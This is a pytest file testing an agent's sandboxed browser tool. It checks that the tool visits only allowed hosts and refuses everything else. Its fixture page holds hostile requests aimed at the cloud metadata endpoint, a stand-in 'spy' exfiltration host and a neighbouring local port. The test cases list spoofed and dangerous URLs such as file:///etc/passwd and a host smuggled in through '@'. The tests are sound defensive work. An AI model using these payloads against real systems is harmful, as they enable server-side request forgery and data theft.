"""A real browser on the owner's hosts alone: what it is led to elsewhere never leaves this machine."""

import contextlib
import importlib.util
import os
import shutil
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web

from runtime.browser import running
from runtime.browser.memory import held
from runtime.browser.running import Browser, Visit
from runtime.errors import ToolFailed
from runtime.network.egress import Egress
from runtime.tools import Power
from runtime.tools.browser import TOOL
from tool_fakes import env

PAGE = """<html><head><title>预订</title></head><body><h1>一叶茶铺</h1>
<img src="http://169.254.169.254/latest/meta-data"><img src="http://elsewhere.example/spy.png?secret">
<iframe src="http://localhost:{other}/inside"></iframe>
<script>fetch("http://127.0.0.1:{other}/stolen", {{mode: "no-cors"}}); new RTCPeerConnection();
new WebSocket("ws://127.0.0.1:{other}/socket");</script>
<form action="/booked" method="post"><label>姓名 <input name="who"></label><button>预订</button></form>
<a href="/file.bin" download>下载</a></body></html>"""


@asynccontextmanager
async def sites():
    """The shop that is allowed and a neighbour that is not: their ports, and what each was asked."""
    asked, runners = {"shop": [], "other": []}, []

    def app(name, respond):
        async def answer(request):
            asked[name].append(f"{request.method} {request.path}")
            return await respond(request)

        made = web.Application()
        made.router.add_route("*", "/{path:.*}", answer)
        return made

    async def start(made):
        runner = web.AppRunner(made, shutdown_timeout=0.1)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        runners.append(runner)
        return runner.addresses[0][1]

    async def shop(request):
        if request.path == "/booked":
            form = await request.post()
            return web.Response(text=f"<p>已为{form['who']}预订</p>", content_type="text/html")
        if request.path == "/away":
            raise web.HTTPFound(f"http://127.0.0.1:{ports['other']}/inside")
        return web.Response(text=PAGE.format(other=ports["other"]), content_type="text/html")

    async def other(_):
        return web.Response(text="secret inside")

    ports = {"other": await start(app("other", other))}
    ports["shop"] = await start(app("shop", shop))
    try:
        yield ports, asked
    finally:
        for runner in runners:
            await runner.cleanup()


def ours(name):
    """Processes that this one started and that are still there."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError, IndexError):
            parent = (process / "stat").read_text("latin-1").rpartition(") ")[2].split()[1]
            if parent == str(os.getpid()) and name in (process / "cmdline").read_text("latin-1"):
                found.append(process.name)
    return found


async def test_a_browser_reads_fills_in_and_clicks_and_reaches_nothing_else():
    async with sites() as (ports, asked):
        egress = Egress([f"browser=127.0.0.1:{ports['shop']}"])
        held_env = env(None, browser=Browser(egress))
        here = f"http://127.0.0.1:{ports['shop']}/"
        steps = [
            {"do": "open", "target": here},
            {"do": "read"},
            {"do": "fill", "target": "姓名", "text": "王"},
            {"do": "click", "target": "预订"},
            {"do": "read"},
            {"do": "open", "target": here + "away"},
        ]
        tool = TOOL(type="browser", hosts=["127.0.0.1"], act=True)
        got = await tool.call({"steps": steps}, held_env)
        await egress.close()
    first, second = got["pages"]
    assert (first["title"], "一叶茶铺" in first["text"]) == ("预订", True)
    assert second["text"].strip() == "已为王预订"
    assert got["not_done"].startswith("6. open")
    assert asked["other"] == []
    assert "POST /booked" in asked["shop"]
    assert {"169.254.169.254", "elsewhere.example"} <= set(got["refused_hosts"])


@pytest.mark.parametrize(
    ("settings", "steps", "why"),
    [
        ({"hosts": []}, [("open", "https://a.example/")], "one at least"),
        ({}, [("read", "")], "first step"),
        ({}, [("open", "https://evil.example/")], "may not be visited"),
        ({}, [("open", "https://www.a.example.evil.example/")], "may not be visited"),
        ({}, [("open", "file:///etc/passwd")], "may not be visited"),
        ({}, [("open", "javascript:alert(1)")], "may not be visited"),
        ({}, [("open", "https://www.a.example@evil.example/")], "may not be visited"),
        ({}, [("open", "https://www.a.example/"), ("click", "x")], "only read"),
        ({}, [("open", "https://www.a.example/"), ("open", "chrome://settings")], "may not be visited"),
    ],
)
async def test_what_is_not_allowed_starts_no_browser(settings, steps, why):
    class Never:
        async def visit(self, steps, reach):
            raise AssertionError("a browser was started")

    tool = TOOL(type="browser", **{"hosts": ["*.a.example"], **settings})
    asked = {"steps": [{"do": do, "target": target} for do, target in steps]}
    with pytest.raises(ToolFailed, match=why):
        await tool.call(asked, env(None, browser=Never()))


async def test_what_a_browser_that_was_taken_over_says_is_bounded_data():
    for answer in (b"", b"null", b"{}", b'{"pages": 1}', b'{"pages": [], "shot": "%"}', b"x" * 13_000_000):
        with pytest.raises(ToolFailed, match="ended on its way"):
            running._read(answer, ())
    many = {"url": "u", "title": "t", "text": "长" * 20_000}

    class Seen:
        async def visit(self, steps, reach):
            return Visit([many] * 3)

    got = await TOOL(type="browser", hosts=["a.example"]).call(
        {"steps": [{"do": "open", "target": "https://a.example/"}]}, env(None, browser=Seen())
    )
    assert len(str(got)) < 8000


async def test_a_visit_that_takes_too_long_or_has_no_browser_is_told_and_leaves_no_process(monkeypatch):
    async with sites() as (ports, _):
        slow = Browser(Egress([f"browser=127.0.0.1:{ports['shop']}"]), seconds=0.3)
        tool = TOOL(type="browser", hosts=["127.0.0.1"])
        asked = {"steps": [{"do": "open", "target": f"http://127.0.0.1:{ports['shop']}/"}]}
        with pytest.raises(ToolFailed, match=r"stopped after 0\.3 s"):
            await tool.call(asked, env(None, browser=slow))
        monkeypatch.setattr(shutil, "which", lambda name: None)
        with pytest.raises(ToolFailed, match="pip --python"):
            await tool.call(asked, env(None, browser=slow))
        monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
        with pytest.raises(ToolFailed, match="chromium"):
            await tool.call(asked, env(None, browser=slow))
    assert not ours("runtime.browser")
    assert held(os.getpgrp()) > 1_000_000


def test_what_it_may_do_follows_from_its_settings():
    assert TOOL(type="browser", act=True).powers == {Power.READS, Power.CHANGES}
    assert TOOL(type="browser").powers == {Power.READS}
    assert (TOOL(type="browser", act=True).repeatable, TOOL(type="browser").repeatable) == (False, True)
    assert [one.field for one in TOOL(type="browser").check({}, ())] == ["hosts"]
